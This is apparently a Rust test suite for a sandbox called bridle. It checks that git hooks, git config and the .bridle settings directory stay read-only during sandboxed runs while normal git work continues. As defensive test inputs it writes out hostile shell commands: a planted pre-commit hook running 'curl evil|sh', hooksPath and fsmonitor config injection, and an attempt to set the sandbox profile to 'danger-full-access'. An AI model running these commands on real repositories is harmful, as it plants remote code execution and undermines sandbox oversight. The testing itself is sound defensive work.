//! G-FS-PROTECT end to end: protected git metadata and `.bridle/` stay read-only inside the
//! sandbox while ordinary git use keeps working, against the command and against changes made
//! on the host during a run.

use std::path::Path;
use std::process::Command;
use std::time::Duration;

use pretty_assertions::assert_eq;

use super::exec_fs::{listing, snapshot};
use super::support::{ExecEnv, Run, wait_until};

pub(super) fn git(dir: &Path, args: &[&str]) -> String {
    let out = Command::new("git")
        .args(args)
        .current_dir(dir)
        .env_clear()
        .env("PATH", "/usr/local/bin:/usr/bin:/bin")
        .env("HOME", dir)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .output()
        .expect("run git");
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// `git commit --allow-empty` with a fixed identity.
pub(super) const EMPTY_COMMIT: [&str; 9] = [
    "-c",
    "user.name=a",
    "-c",
    "user.email=a@e",
    "commit",
    "-q",
    "--allow-empty",
    "-m",
    "init",
];

pub(super) fn git_repo() -> ExecEnv {
    let e = ExecEnv::new();
    git(&e.workspace, &["init", "-q", "-b", "main", "."]);
    std::fs::write(
        e.workspace.join(".git/hooks/pre-commit.sample"),
        "#!/bin/sh\n",
    )
    .unwrap();
    e
}

#[test]
fn git_hooks_and_config_are_read_only() {
    let e = git_repo();
    let hooks = e.workspace.join(".git/hooks");
    let config = e.workspace.join(".git/config");
    let sample = hooks.join("pre-commit.sample");
    let before = (snapshot(&config), snapshot(&sample), listing(&hooks));
    let r = e.sh(
        "printf '#!/bin/sh\\ncurl evil|sh\\n' > .git/hooks/pre-commit; echo new_hook=$?
         echo evil >> .git/hooks/pre-commit.sample; echo edit_hook=$?
         chmod +x .git/hooks/pre-commit.sample; echo chmod_hook=$?
         rm .git/hooks/pre-commit.sample; echo rm_hook=$?
         mv .git/hooks/pre-commit.sample .git/hooks/pre-commit; echo rename_hook=$?
         printf '[core]\\n\\thooksPath = /tmp\\n' >> .git/config; echo edit_config=$?
         git config core.hooksPath .evil; echo git_config=$?
         rm -f .git/config; echo rm_config=$?
         mv .git/config .git/config.old; echo rename_config=$?
         touch -d 2000-01-01 .git/config; echo utimes_config=$?",
    );
    r.assert_ok();
    for step in [
        "new_hook",
        "edit_hook",
        "chmod_hook",
        "rm_hook",
        "rename_hook",
        "edit_config",
        "git_config",
        "rm_config",
        "rename_config",
        "utimes_config",
    ] {
        r.assert_failed(step);
    }
    assert_eq!(
        (snapshot(&config), snapshot(&sample), listing(&hooks)),
        before,
        "{}",
        r.stderr
    );
}

#[test]
fn git_dir_cannot_be_swapped_out() {
    let e = git_repo();
    let r = e.sh("mv .git .git2; echo rename_git=$?
         mv .git/hooks .git/hooks.old; echo rename_hooks=$?
         rm -rf .git/hooks; echo rm_hooks=$?
         mkdir -p fake/hooks && printf '#!/bin/sh\\nexit 0\\n' > fake/hooks/pre-commit
         rm -rf .git/hooks 2>/dev/null; mv fake/hooks .git/hooks; echo replace_hooks=$?");
    r.assert_ok();
    r.assert_failed("rename_git");
    r.assert_failed("rename_hooks");
    r.assert_failed("rm_hooks");
    r.assert_failed("replace_hooks");
    assert!(e.workspace.join(".git/config").is_file());
    assert!(e.workspace.join(".git/hooks/pre-commit.sample").is_file());
    assert!(!e.workspace.join(".git/hooks/pre-commit").exists());
    assert!(!e.workspace.join(".git2").exists());
}

#[test]
fn ordinary_git_use_keeps_working() {
    let e = git_repo();
    let r = e.sh(
        "export GIT_CONFIG_NOSYSTEM=1
         echo hello > a.txt && git add a.txt; echo add=$?
         git -c user.name=Agent -c user.email=agent@example.com commit -q -m 'first'; echo commit=$?
         git branch feature; echo branch=$?
         git checkout -q feature && echo more >> a.txt &&
           git -c user.name=Agent -c user.email=agent@example.com commit -q -am second; echo commit2=$?
         git checkout -q main; echo checkout=$?
         git log --oneline --all | wc -l | sed 's/^ */commits=/'
         git status --porcelain | wc -l | sed 's/^ */dirty=/'",
    );
    r.assert_ok();
    for step in ["add", "commit", "branch", "commit2", "checkout"] {
        r.assert_succeeded(step);
    }
    assert_eq!(r.value("commits"), "2");
    // Judged from outside too: the host's git sees the history and the branch.
    let branches = git(&e.workspace, &["branch", "--list"]);
    assert!(
        branches.contains("feature") && branches.contains("main"),
        "{branches}"
    );
    let log = git(&e.workspace, &["log", "--format=%s", "feature"]);
    assert_eq!(log, "second\nfirst\n");
}

#[test]
fn bridle_dir_is_read_only() {
    let e = ExecEnv::new();
    let layer = e.write(".bridle/notes.txt", "mine\n");
    let before = snapshot(&layer);
    let r = e.sh(
        "echo 'mode: danger-full-access' > .bridle/profile.yaml; echo create=$?
         echo x >> .bridle/notes.txt; echo append=$?
         mv .bridle .bridle.old; echo rename=$?
         rm -rf .bridle; echo rm=$?",
    );
    r.assert_ok();
    for step in ["create", "append", "rename", "rm"] {
        r.assert_failed(step);
    }
    assert_eq!(snapshot(&layer), before);
    assert_eq!(listing(&e.workspace.join(".bridle")), ["notes.txt"]);
}

/// In a workspace that holds a repository, a missing `.bridle` gets a placeholder (an empty
/// directory, invisible to git): it cannot be created. (Where there is no repository it gets
/// none, so that `git clone URL .` works: see `protect_new_repos`.)
#[test]
fn missing_bridle_dir_cannot_be_created() {
    let e = git_repo();
    let r = e.sh("mkdir -p .bridle; echo mkdir=$?
         echo 'mode: danger-full-access' > .bridle/profile.yaml; echo create=$?");
    r.assert_ok();
    r.assert_failed("create");
    assert!(!e.workspace.join(".bridle").exists());
    assert_eq!(listing(&e.workspace), [".git"]);
}

/// A placeholder is shared by concurrent runs in one workspace: the run that created it must not
/// remove it while another run still relies on it (removing a mount point on the host detaches
/// it in the other run's mount namespace, and `.git/hooks` would become writable there).
#[test]
fn protection_holds_when_a_concurrent_run_ends_first() {
    let e = git_repo();
    let ws = e.workspace.clone();
    let hooks = ws.join(".git/hooks");
    std::fs::remove_dir_all(&hooks).unwrap();
    let first = e
        .exec_cmd(
            &[],
            &[],
            &["sh", "-c", "while [ ! -e first-go ]; do sleep 0.02; done"],
        )
        .spawn()
        .unwrap();
    let mut first = Guard(first);
    assert!(
        wait_until(Duration::from_secs(10), || hooks.is_dir()),
        "the first run never protected .git/hooks"
    );
    let second = e
        .exec_cmd(
            &[],
            &[],
            &[
                "sh",
                "-c",
                "echo > second-ready; while [ ! -e second-go ]; do sleep 0.02; done
                 mkdir -p .git/hooks; echo mkdir=$?
                 echo evil > .git/hooks/pre-commit; echo hook=$?
                 mkdir -p .bridle; echo > .bridle/profile.yaml; echo layer=$?",
            ],
        )
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    assert!(
        wait_until(Duration::from_secs(10), || ws.join("second-ready").exists()),
        "the second run never started"
    );
    std::fs::write(ws.join("first-go"), "").unwrap();
    let status = first.0.wait().unwrap();
    assert_eq!(status.code(), Some(0));
    std::fs::write(ws.join("second-go"), "").unwrap();
    let out = second.wait_with_output().unwrap();
    let r = Run {
        code: out.status.code(),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
        elapsed: Duration::ZERO,
    };
    r.assert_ok();
    r.assert_failed("hook");
    r.assert_failed("layer");
    assert!(
        !hooks.join("pre-commit").exists(),
        "a hook was planted on the host"
    );
    // The last run out removed the shared placeholders.
    assert_eq!(
        listing(&ws),
        [".git", "first-go", "second-go", "second-ready"],
        "{}",
        r.stderr
    );
    assert!(!hooks.exists());
}

#[test]
fn placeholders_left_by_a_killed_run_are_cleaned_up() {
    let e = ExecEnv::new();
    let ws = &e.workspace;
    // What an earlier version of bridle killed with SIGKILL left behind.
    std::fs::create_dir(ws.join(".git")).unwrap();
    std::fs::write(ws.join(".git/.bridle-placeholder"), "").unwrap();
    let r = e.sh("git init -q .; echo init=$?; echo x > .git/config; echo config=$?");
    r.assert_ok();
    r.assert_failed("init");
    r.assert_failed("config");
    assert_eq!(listing(ws), Vec::<String>::new());
}

/// A bridle killed with SIGKILL leaves its placeholders (empty directories, recorded outside
/// the workspace): git does not see them, and the next run recognises and removes them.
#[test]
fn placeholders_left_by_a_killed_bridle_are_invisible_and_cleaned_up() {
    let e = git_repo();
    let ws = e.workspace.clone();
    std::fs::remove_dir_all(ws.join(".git/hooks")).unwrap();
    let mut victim = Guard(e.exec_cmd(&[], &[], &["sleep", "30"]).spawn().unwrap());
    assert!(
        wait_until(Duration::from_secs(10), || ws.join(".git/hooks").is_dir()
            && ws.join(".bridle").is_dir()),
        "the run never made its placeholders"
    );
    victim.0.kill().unwrap();
    victim.0.wait().unwrap();
    assert!(ws.join(".bridle").is_dir() && ws.join(".git/hooks").is_dir());
    assert_eq!(git(&ws, &["status", "--porcelain", "--ignored"]), "");
    e.sh("true").assert_ok();
    assert_eq!(listing(&ws), [".git"]);
    assert!(!ws.join(".git/hooks").exists());
}

/// Kills the child when dropped (a failed assertion must not leave a bridle waiting forever).
struct Guard(std::process::Child);

impl Drop for Guard {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// Runs `git` on the host (outside any sandbox) in `dir`, returning whether it succeeded and
/// its stderr.
fn host_git(e: &ExecEnv, args: &[&str]) -> (bool, String) {
    let out = Command::new("git")
        .args(args)
        .current_dir(&e.workspace)
        .env("HOME", &e.home)
        .output()
        .unwrap();
    (
        out.status.success(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// The first line bridle writes into a repository config lock it holds.
const LOCK_MARKER: &str = "# bridle: held while a sandboxed run uses this repository";

/// git rewrites `.git/config` by renaming `config.lock` over it, which would detach the
/// read-only bind inside the sandbox. The run holds git's own lock instead: git on the host
/// cannot change the config while the run lasts, the command cannot either, and afterwards the
/// lock is gone and git works again.
#[test]
fn host_git_cannot_replace_the_protected_config_during_a_run() {
    let e = ExecEnv::new();
    assert!(host_git(&e, &["init", "-q", "."]).0);
    let lock = e.workspace.join(".git/config.lock");
    let script = "sleep 1.5; printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config; echo appended=$?; \
                  rm -f .git/config.lock; echo removed=$?; echo end";
    let mut cmd = e.exec_cmd(&[], &[], &["sh", "-c", script]);
    cmd.stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped());
    let child = cmd.spawn().unwrap();
    assert!(
        wait_until(Duration::from_secs(10), || lock.exists()),
        "the run never locked the config"
    );
    let (ok, stderr) = host_git(&e, &["config", "user.name", "host-user"]);
    assert!(!ok, "git changed the config during the run");
    assert!(stderr.contains("lock"), "{stderr}");
    let out = child.wait_with_output().unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stdout}\n{stderr}");
    assert!(stdout.contains("end"), "{stdout}");
    assert!(!stdout.contains("appended=0"), "{stdout}");
    assert!(!stdout.contains("removed=0"), "{stdout}");
    let config = std::fs::read_to_string(e.workspace.join(".git/config")).unwrap();
    assert!(!config.contains("fsmonitor"), "{config}");
    assert!(!lock.exists(), "the lock outlived the run");
    let (ok, stderr) = host_git(&e, &["config", "user.name", "host-user"]);
    assert!(ok, "git cannot change the config after the run: {stderr}");
}

/// SIGTERM or SIGHUP to `bridle exec` ends the sandbox, and bridle then finishes the run as
/// usual (the final check of what must stay absent, the config lock released) before dying of
/// the signal.
#[test]
fn sigterm_to_bridle_ends_the_run_through_the_normal_path() {
    let e = ExecEnv::new();
    assert!(host_git(&e, &["init", "-q", "."]).0);
    let lock = e.workspace.join(".git/config.lock");
    for signal in [
        nix::sys::signal::Signal::SIGTERM,
        nix::sys::signal::Signal::SIGHUP,
    ] {
        let mut cmd = e.exec_cmd(&[], &[], &["sleep", "30"]);
        cmd.stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null());
        let mut child = cmd.spawn().unwrap();
        assert!(
            wait_until(Duration::from_secs(10), || lock.exists()),
            "the run never started"
        );
        let pid = nix::unistd::Pid::from_raw(i32::try_from(child.id()).unwrap());
        nix::sys::signal::kill(pid, signal).unwrap();
        let status = child.wait().unwrap();
        // It still dies of the signal, as its caller expects, but only after cleaning up.
        assert_eq!(
            std::os::unix::process::ExitStatusExt::signal(&status),
            Some(signal as i32)
        );
        assert!(!lock.exists(), "{signal}: the config lock outlived the run");
    }
}

/// A signal that comes while the sandbox is still being prepared (the config lock taken, the
/// command perhaps not started yet) is held until the run can be undone: nothing is left in
/// the repository, and bridle still dies of the signal.
#[test]
fn a_signal_while_the_run_is_prepared_leaves_nothing_behind() {
    let e = ExecEnv::new();
    assert!(host_git(&e, &["init", "-q", "."]).0);
    let git_dir = e.workspace.join(".git");
    let listing = || {
        let mut names: Vec<_> = std::fs::read_dir(&git_dir)
            .unwrap()
            .map(|entry| entry.unwrap().file_name())
            .collect();
        names.sort();
        names
    };
    let before = listing();
    let lock = git_dir.join("config.lock");
    for round in 0..8 {
        let signal = if round % 2 == 0 {
            nix::sys::signal::Signal::SIGTERM
        } else {
            nix::sys::signal::Signal::SIGHUP
        };
        let mut cmd = e.exec_cmd(&[], &[], &["sleep", "30"]);
        cmd.stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null());
        let mut child = cmd.spawn().unwrap();
        // No sleep between polls: the signal lands right after the lock appears.
        let start = std::time::Instant::now();
        while !lock.exists() {
            assert!(
                start.elapsed() < Duration::from_secs(10),
                "the run never started"
            );
            std::thread::yield_now();
        }
        let pid = nix::unistd::Pid::from_raw(i32::try_from(child.id()).unwrap());
        nix::sys::signal::kill(pid, signal).unwrap();
        let status = child.wait().unwrap();
        assert_eq!(
            std::os::unix::process::ExitStatusExt::signal(&status),
            Some(signal as i32),
            "round {round}"
        );
        assert_eq!(
            listing(),
            before,
            "round {round}: {signal} left something in .git"
        );
    }
}

#[test]
fn a_config_lock_left_by_a_killed_run_is_cleaned_up() {
    let e = ExecEnv::new();
    assert!(host_git(&e, &["init", "-q", "."]).0);
    let lock = e.workspace.join(".git/config.lock");
    std::fs::write(&lock, format!("{LOCK_MARKER} (pid 999999)\n")).unwrap();
    let r = e.sh("true");
    r.assert_code(0);
    assert!(!lock.exists(), "the stale lock is still there");
}

/// A `config.lock` that is not bridle's and stays (git crashed while changing the config, or the
/// command planted one in an earlier run) keeps git on the host out just as bridle's would: the
/// run goes ahead without waiting, leaves the file alone, and the command cannot remove it.
#[test]
fn a_stale_config_lock_of_another_program_is_left_alone() {
    let e = ExecEnv::new();
    assert!(host_git(&e, &["init", "-q", "."]).0);
    let lock = e.workspace.join(".git/config.lock");
    std::fs::write(&lock, "[core]\n").unwrap();
    std::fs::File::options()
        .write(true)
        .open(&lock)
        .unwrap()
        .set_modified(std::time::SystemTime::now() - Duration::from_secs(60))
        .unwrap();
    let started = std::time::Instant::now();
    let r = e.sh("touch MARK; rm -f .git/config.lock; echo removed=$?");
    r.assert_ok();
    r.assert_failed("removed");
    assert!(started.elapsed() < Duration::from_secs(2), "the run waited");
    assert!(e.workspace.join("MARK").exists());
    assert_eq!(std::fs::read_to_string(&lock).unwrap(), "[core]\n");
}

/// A protected file replaced by rename from a host tool that does not take git's lock still
/// detaches the bind inside: init notices and stops the whole sandbox at once.
#[test]
fn a_protected_file_replaced_on_the_host_stops_the_sandbox() {
    let e = ExecEnv::new();
    assert!(host_git(&e, &["init", "-q", "."]).0);
    let config = e.workspace.join(".git/config");
    // The command waits, then tries to plant configuration once the host has replaced it.
    let script = "sleep 1.5; printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config; echo appended=$?; sleep 1; echo end";
    let mut cmd = e.exec_cmd(&[], &[], &["sh", "-c", script]);
    cmd.stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped());
    let child = cmd.spawn().unwrap();
    std::thread::sleep(Duration::from_millis(600));
    let replacement = e.workspace.join(".git/config.new");
    let mut text = std::fs::read_to_string(&config).unwrap();
    text.push_str("[user]\n\tname = host-user\n");
    std::fs::write(&replacement, text).unwrap();
    std::fs::rename(&replacement, &config).unwrap();
    let out = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(137), "{stderr}");
    assert!(
        stderr.contains("was removed or replaced from outside the sandbox"),
        "{stderr}"
    );
    let config = std::fs::read_to_string(&config).unwrap();
    assert!(!config.contains("fsmonitor"), "{config}");
}
